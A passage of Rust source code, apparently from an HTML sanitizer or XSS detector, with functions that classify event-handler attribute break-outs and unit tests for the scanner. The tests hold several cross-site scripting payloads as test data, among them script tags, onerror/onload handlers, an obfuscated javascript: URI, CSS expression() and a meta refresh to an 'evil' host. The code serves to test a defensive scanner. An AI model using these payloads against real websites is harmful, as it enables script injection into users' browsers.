    // attribute it broke out of (see [`jsx_handler_reference`])
    if b.get(k) == Some(&b'{') {
        if let Some(close) = b[k..].iter().take(66).position(|&c| c == b'}') {
            let after = b.get(k + close + 1);
            if matches!(
                after,
                None | Some(b' ' | b'\t' | b'\n' | b'\r' | b'>' | b'/')
            ) && std::str::from_utf8(&b[k..=k + close]).is_ok_and(jsx_handler_reference)
            {
                return false;
            }
        }
    }
    // plain text (no quote or tag end before the handler) naming a word
    if memchr::memchr3(b'"', b'\'', b'`', &b[..at]).is_none()
        && memchr::memchr(b'>', &b[..at]).is_none()
        && inert_handler_word(&b[k..])
    {
        return false;
    }
    // a non-empty handler body, or a quote break-out right before the handler
    if k < b.len() && !matches!(b[k], b'&' | b'>') {
        return true;
    }
    // an injected handler whose body the page supplies: `" onload=`
    k >= b.len() && at > 0 && matches!(b[at - 1], b'"' | b'\'' | b'`' | b' ' | b'\t')
}

/// A handler body that is one plain word, bare or quoted, ending the value or followed by a
/// space (`onerror=ignore`, "set onload=true in the config", "onload='init'"): naming a value runs nothing, and
/// prose and config text write `name=word`. Callers apply it only to plain text, where no
/// quote or tag end before the handler breaks out of an attribute. A sink named alone (`onfocus=alert`) still
/// counts, as it may be the head of a call the page completes.
fn inert_handler_word(body: &[u8]) -> bool {
    // `const onError = (e) => log(e)`: an arrow function's parameters. The handler's body is
    // the parenthesised names (an unquoted value ends at the blank), which only read them;
    // `onerror=(alert)(1)` calls, and a sink named among them still counts.
    if let Some(params) = body.strip_prefix(b"(") {
        let n = params
            .iter()
            .take(64)
            .take_while(|&&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$' | b',' | b' '))
            .count();
        if params.get(n) == Some(&b')')
            && params[..n].iter().any(u8::is_ascii_alphabetic)
            && params[n + 1..].trim_ascii_start().starts_with(b"=>")
            && !params[..n]
                .split(|&c| c == b',' || c == b' ')
                .any(super::js::names_sink)
        {
            return true;
        }
    }
    // a quoted word (`onload='init'`) names a value just the same, and so does a block
    // holding one (JSX's `onClick={handleClick}`: read as a handler, a block statement)
    let (body, quote) = match body.first() {
        Some(&q @ (b'\'' | b'"')) => (&body[1..], Some(q)),
        Some(b'{') => (&body[1..], Some(b'}')),
        _ => (body, None),
    };
    let n = body
        .iter()
        .take(32)
        .take_while(|c| c.is_ascii_alphanumeric())
        .count();
    let after = match quote {
        Some(q) if body.get(n) == Some(&q) => n + 1,
        Some(_) => return false,
        None => n,
    };
    if n == 0 || n == 32 || !matches!(body.get(after), None | Some(b' ' | b'\t' | b'\n' | b'\r')) {
        return false;
    }
    !super::js::names_sink(&body[..n])
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The tag pass's plain-markup answer, where it gives one, is the ML gate's own, and the
    /// attribute delimiters it hands over are those the break-out scan finds itself (in the
    /// value up to its last quote, as that scan reads it).
    fn assert_plain_agrees(v: &str) -> (bool, bool) {
        let mut d = None;
        let (_, plain, found) = scan_plain(v, Some(&mut d));
        let d = d.unwrap_or_else(js::Delimiters::new);
        if let Some(plain) = plain {
            assert_eq!(plain, crate::ml::markup::is_plain_markup(v), "{v:?}");
        }
        if found {
            let b = v.as_bytes();
            let last = memchr::memrchr2(b'"', b'\'', b).map_or(0, |p| p + 1);
            let mut out = [0usize; js::MAX_DELIMITERS];
            let mut free = 0u128;
            let n = js::attribute_delimiters(&b[..last], &mut out, &mut free);
            assert_eq!(d.pairs(), (&out[..n], free), "{v:?}");
        }
        (plain.is_some(), found && !d.pairs().0.is_empty())
    }

    #[test]
    fn plain_answer_is_the_gates_on_written_markup() {
        for v in [
            "<p>Hello <b>world</b> &amp; <a href=\"https://x.org/a?b=1\">link</a></p>",
            "<ul><li>one</li><li class='x'>two</li></ul><br/>",
            "<ul><li>one</li><li class='x'>two</li></ul><br />",
            "if a < b then <em>c</em>",
            "a < b",
            "</ p>",
            "</1>",
            "<p/ >",
            "<p//>",
            "<p / >",
            "<p\x0bclass=x>",
            "<p class\x0b=x>",
            "<p class=\x0bx>",
            "<p class=x\x0by>",
            "<p class=x\0>",
            "<p\0>",
            "<p-x>",
            "<p:x>",
            "<p\"x>",
            "<p class>",
            "<p class =  'a' >",
            "<p class=>",
            "<p class=",
            "<p class='a",
            "<p",
            "<p ",
            "<p class='a>b'>",
            "<p class=a>b>",
            "<p title=x=\"y\">",
            "<p title=x=\"y\" class=\"z\">a => b = \"c\"</p>",
            "<p class = \"a b c d e f g h i j k l\" id='it\"s'>x</p class=\"e\">",
            "<p\nclass=\n'a'\n>",
            "a = \"b\" <b>c</b> d = 'e'",
            "<p data-x=1 aria-label=y>",
            "<p onclick=x>",
            "<a href=javascript:x>",
            "<a href='java script:x'>",
            "<a href='mailto:a@b'>",
            "<!-- <b>x</b> -->",
            "<!-- <script> -->",
            "<%b>",
            "<?x?><b>",
            "<b <i>",
            "<scr<b>ipt>",
            "<B CLASS=X>y</B>",
            "<p =x>",
            "<p class=`x`>",
            "<p class='a\\b'>",
            "x <",
            "<",
            "<p>\u{e9}</p>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\"><rect fill=\"orange\"/></svg>",
            "<svg viewBox='0 0 9 9'><a xlink:href='https://x.org/'><text x=1>a</text></a></SVG>",
            "<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\">",
            "<a xmlns:xlink=\"http://www.w3.org/1999/xlink\" xlink:href=\"?\">",
            "<svg><path d=x/></svg",
            "<svg><image href=x.png /></svg>",
            "<svg><rect onclick=x /></svg>",
            "<p>x</p></svg>",
        ] {
            assert_plain_agrees(v);
        }
        // the usual editor and documentation markup is answered, not left to the gate
        for v in [
            "<p>Hello <b>world</b></p>",
            "<div class=\"highlight\"><pre><span class=\"k\">def</span> f</pre></div>",
            "<p style=\"color:red\">x</p>",
            "<section lang=en><u>x</u></section>",
        ] {
            assert!(assert_plain_agrees(v).0, "{v}");
        }
    }

    #[test]
    fn plain_answer_is_the_gates_on_generated_markup() {
        // fragments of tags as both readers split them, with the bytes where they differ
        const PARTS: &[&str] = &[
            "<",
            "</",
            ">",
            "/>",
            "/",
            " ",
            "  ",
            "\t",
            "\n",
            "\x0b",
            "\0",
            "\x0c",
            "=",
            "\"",
            "'",
            "`",
            "&",
            "\\",
            ":",
            "-",
            "_",
            "!",
            "?",
            "%",
            "1",
            "x",
            "p",
            "b",
            "B",
            "em",
            "div",
            "span",
            "script",
            "img",
            "a",
            "svg",
            "href",
            "class",
            "src",
            "alt",
            "title",
            "onclick",
            "style",
            "data-k",
            "aria-x",
            "https://e.org/a",
            "javascript:x",
            "mailto:a",
            "?t=1:2",
            "java script:",
            "\u{e9}",
            "<!--",
            "-->",
        ];
        let mut next = crate::lcg(0x2545_f491_4f6c_dd1d);
        let (mut answered, mut handed) = (0, 0);
        for _ in 0..60_000 {
            let mut v = String::new();
            for _ in 0..1 + next(24) {
                v.push_str(PARTS[next(PARTS.len())]);
            }
            answered += usize::from(assert_plain_agrees(&v).0);
            // well-formed tags, where the answer is mostly "plain"
            let mut w = String::new();
            for _ in 0..1 + next(4) {
                let name = ["p", "b", "span", "a", "img", "script"][next(6)];
                w.push('<');
                w.push_str(name);
                for _ in 0..next(3) {
                    w.push_str([" ", "  ", "\n", " /"][next(4)]);
                    w.push_str(["class", "href", "alt", "data-x", "onload", "id"][next(6)]);
                    match next(4) {
                        0 => {}
                        1 => w.push_str("=x"),
                        2 => w.push_str("=\"https://e.org/a b\""),
                        _ => w.push_str(["='a:b'", "= 'k'", "=\"<x\"", "='y"][next(4)]),
                    }
                }
                w.push_str([">", "/>", " >", " / >", ""][next(5)]);
                w.push_str(["text", " a < b ", "", "</p>", "</ b>"][next(5)]);
            }
            let (a, h) = assert_plain_agrees(&w);
            answered += usize::from(a);
            handed += usize::from(h);
        }
        // the pass answers most values; the rest are left to the gate's own reading
        assert!(answered > 60_000, "{answered}");
        // and hands delimiters to the break-out scan for many
        assert!(handed > 1_000, "{handed}");
    }

    #[test]
    fn tags() {
        assert_eq!(scan("<script>alert(1)</script>"), Some("executable-tag"));
        assert_eq!(scan("<img src=x onerror=alert(1)>"), Some("event-handler"));
        assert_eq!(scan("<svg/onload=alert(1)>"), Some("event-handler"));
        assert_eq!(
            scan("<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
            Some("dangerous-uri")
        );
        assert_eq!(
            scan("<div style=\"x:expression(alert(1))\">"),
            Some("css-expression")
        );
        assert_eq!(
            scan("<meta http-equiv=\"refresh\" content=\"0;url=//evil\">"),
            Some("meta-refresh")
        );
        assert_eq!(
            scan("<p><b>bold</b> <a href=\"https://example.com\">link</a></p>"),
            None
        );
        assert_eq!(
            scan("<img src=\"x.png\" alt=\"\"><br><table><tr><td>1</td></tr></table>"),
            None
        );
        assert_eq!(scan("a<b and c>d"), None);
        assert_eq!(scan("3 < 5 and 7 > 2"), None);
    }

    #[test]
    fn page_name_start_by_table() {
        // the two-letter rule as it was written, before the table
        let spelled = |b: &[u8]| {
            let at = usize::from(b.first() == Some(&b'/'));
            let first = b.get(at).map(u8::to_ascii_lowercase);
            let second = b.get(at + 1).map(u8::to_ascii_lowercase);
            matches!(
                (first, second),
                (Some(b'h'), Some(b't' | b'e'))
                    | (Some(b'b' | b'f' | b'n'), Some(b'o'))
                    | (Some(b'm'), Some(b'a'))
                    | (Some(b's'), Some(b't' | b'v'))
                    | (Some(b't'), Some(b'e' | b'i'))
                    | (Some(b'x'), Some(b'm' | b'h'))
            )
        };
        for x in 0..=255u8 {
            for y in 0..=255u8 {
                for v in [vec![x, y], vec![b'/', x, y], vec![x], vec![b'/', x]] {
                    assert_eq!(page_name_start(&v, 0), spelled(&v), "{v:?}");
                }
            }
        }
    }

    #[test]
    fn bare_tags_read_as_tag_reads_them() {
        let names = [
            "p",
            "P",
            "span",
            "SPAN",
            "li",
            "h1",
            "code",
            "em",
            "br",
            "script",
            "SCRIPT",
            "iframe",
            "form",
            "Form",
            "style",
            "meta",
            "link",
            "object",
            "embed",
            "svg",
            "xmp",
            "title",
            "html",
            "body",
            "x1",
            "custom",
            "abcdefghijklmnop",
            "abcdefghijklmnopq",
            "b2b",
        ];
        for name in names {
            for end in [false, true] {
                for tail in [">", ">x", " >", "/>", " class=x>", "", ":x>", "<b>"] {
                    let v = format!("<{}{name}{tail}", if end { "/" } else { "" });
                    let b = v.as_bytes();
                    let st = 1 + usize::from(end);
                    let mut fast = PlainTrack::on(&v, None);
                    let Some(next) = bare_tag(b, st, end, &mut fast) else {
                        continue;
                    };
                    let mut slow = PlainTrack::on(&v, None);
                    let (reason, slow_next) = tag(&v, st, end, 0, &mut slow);
                    assert_eq!(reason, None, "{v}");
                    assert_eq!(next, slow_next, "{v}");
                    assert_eq!((fast.state, fast.tags), (slow.state, slow.tags), "{v}");
                    assert!(tail.starts_with('>'), "{v}");
                }
            }
        }
        // the usual tags are read on the short path
        for v in ["<p>", "</span>", "<LI>", "</h1>", "<meta>"] {
            let st = 1 + usize::from(v.starts_with("</"));
            assert!(
                bare_tag(v.as_bytes(), st, st == 2, &mut PlainTrack::off()).is_some(),
                "{v}"
            );
        }
    }

    #[test]
    fn raw_text_end_tags_by_first_letter() {
        // every raw-text name's end tag is read, whatever its case; others leave early
        for n in RAW_TEXT_NAMES {
            let name = std::str::from_utf8(n).unwrap_or("");
            for v in [
                format!("</{name}>"),
                format!("</{}>", name.to_ascii_uppercase()),
            ] {
                assert!(closes_unopened_raw_text(v.as_bytes(), 2), "{v}");
            }
            assert!(!closes_unopened_raw_text(
                format!("<{name}></{name}>").as_bytes(),
                n.len() + 4
            ));
        }
        for v in ["</div>", "</a>", "</code>", "</span>", "</7>", "</"] {
            assert!(!closes_unopened_raw_text(v.as_bytes(), 2), "{v}");
        }
    }

    #[test]
    fn named_attribute_rules_see_their_names() {
        // every name a name-keyed rule compares is let through
        for n in NAMED_ATTRIBUTES {
            assert!(named_rule_may_apply(n), "{n:?}");
        }
        for n in [
            b"xmlns".as_slice(),
            b"xmlns:ev",
            b"xsi:schemalocation",
            b"foo:nonamespaceschemalocation",
        ] {
            assert!(named_rule_may_apply(n), "{n:?}");
        }
        // the page's URL and form rules name nothing that is skipped
        for n in [
            b"class".as_slice(),
            b"title",
            b"alt",
            b"width",
            b"height",
            b"lang",
            b"rowspan",
            b"target",
            b"data-x",
            b"aria-label",
            b"",
            b"\xc3\xa9",
        ] {
            assert!(
                !(page::url_attribute(n) || page::form_attribute(n) || n == b"type"),
                "{n:?}"
            );
            assert!(!named_rule_may_apply(n), "{n:?}");
        }
        // and the tag rules decide the same with or without the skip
        assert_eq!(
            scan("<a class=\"k\" href=\"https://a@b.example/\">x</a>"),
            Some("deceptive-url")
        );
        assert_eq!(scan("<p class=\"k\" title=\"t\" id=\"x\">x</p>"), None);
        assert_eq!(
            scan("<x xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"x\">"),
            Some("xml-machinery")
        );
    }

    #[test]
    fn value_bytes_short_and_long() {
        for n in [
            0,
            1,
            SHORT_VALUE - 1,
            SHORT_VALUE,
            SHORT_VALUE + 1,
            3 * SHORT_VALUE,
        ] {
            let plain = "k".repeat(n);
            assert_eq!(value_bytes(plain.as_bytes()), 0, "{n}");
            let v = format!("{plain}&a<b:c");
            let all = value_byte::AMP | value_byte::LT | value_byte::COLON;
            assert_eq!(value_bytes(v.as_bytes()), all, "{n}");
            let v = format!(":{plain}");
            assert_eq!(value_bytes(v.as_bytes()), value_byte::COLON, "{n}");
        }
    }

    #[test]
    fn attribute_breakouts() {
        assert!(attribute_breakout("\" onmouseover=\"alert(1)"));
        assert!(attribute_breakout("x autofocus onfocus=alert(1)"));
        assert!(!attribute_breakout(
            "https://example.com/?online=1&onboarding=2"
        ));
        assert!(!attribute_breakout("turn it on = off"));
        assert!(attribute_breakout("x\" ONLOAD = alert(1)"));
        assert!(attribute_breakout("\" onload="));
        assert!(!attribute_breakout("xonload=alert(1)"));
        assert!(!attribute_breakout("set onload=init"));
        // only the first 64 `on` pairs are judged
        let late = format!("{} \" onload=alert(1)", "on ".repeat(64));
        assert!(!attribute_breakout(&late));
        let early = format!("{} \" onload=alert(1)", "on ".repeat(63));
        assert!(attribute_breakout(&early));
        // the search without a vector unit finds the same pairs
        for v in ["\" ONLOAD = alert(1)", "one onion ON oN", &late, &early] {
            let b = v.as_bytes();
            let scalar: Vec<usize> = on_pairs(b).collect();
            let packed: Vec<usize> = ON_PAIRS.as_ref().map_or_else(
                || scalar.clone(),
                |on| on.find_iter(b).map(|m| m.start()).collect(),
            );
            assert_eq!(scalar, packed, "{v}");
            assert_eq!(handler_among(b, on_pairs(b)), attribute_breakout(v), "{v}");
        }
    }
}
